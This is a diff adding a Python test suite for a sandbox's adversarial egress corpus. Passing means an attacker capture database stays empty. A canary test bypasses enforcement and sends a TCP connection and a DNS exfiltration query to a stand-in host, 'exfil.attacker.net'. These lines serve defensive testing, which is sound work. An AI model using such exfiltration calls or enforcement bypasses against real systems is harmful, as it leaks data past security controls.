@@ -1,0 +1,49 @@
+"""Capture-graded adversarial corpus: pass = empty captures table.
+
+This is the reference's grading contract (test/adversarial/CLAUDE.md):
+the operator checks the attacker's capture DB, not the defender's
+verdict taxonomy.  tests/test_adversarial.py keeps the semantic
+verdict-model corpus as a fast unit-level check; THIS suite is the
+grading surface -- every technique really crosses sockets.
+"""
+
+from __future__ import annotations
+
+from clawker_tpu.parity.redteam import TECHNIQUES, build_world, run_corpus
+
+
+def test_corpus_covers_thirty_techniques():
+    assert len(TECHNIQUES) == 30
+    names = [n for n, _ in TECHNIQUES]
+    assert len(set(names)) == 30
+
+
+def test_zero_captures(tmp_path):
+    report = run_corpus(tmp_path)
+    assert report["total"] == 30
+    failing = [t for t in report["techniques"] if not t["pass"]]
+    assert report["captures"] == 0 and not failing, (
+        f"escapes: {failing}\ncaptures: {report['capture_rows']}")
+    assert report["passed"] == 30
+
+
+def test_instrument_detects_escapes(tmp_path):
+    """Canary: with enforcement bypassed the same drives MUST land in the
+    capture DB -- otherwise a zero-capture run proves nothing."""
+    import time
+
+    from clawker_tpu.parity.world import CG_AGENT
+
+    w = build_world(tmp_path / "w")
+    try:
+        w.maps.set_bypass(CG_AGENT, int(time.time()) + 300)
+        ip = w.dns_table["exfil.attacker.net"]
+        sock = w.open_tcp(ip, 443, technique="canary")
+        sock.close()
+        time.sleep(0.2)
+        assert w.attacker.store.count("canary") >= 1
+        # DNS exfil is also visible: a bypassed resolver leaks the query
+        w.dig("aGVsbG8.exfil.attacker.net")
+        assert w.attacker.store.count() >= 2
+    finally:
+        w.close()
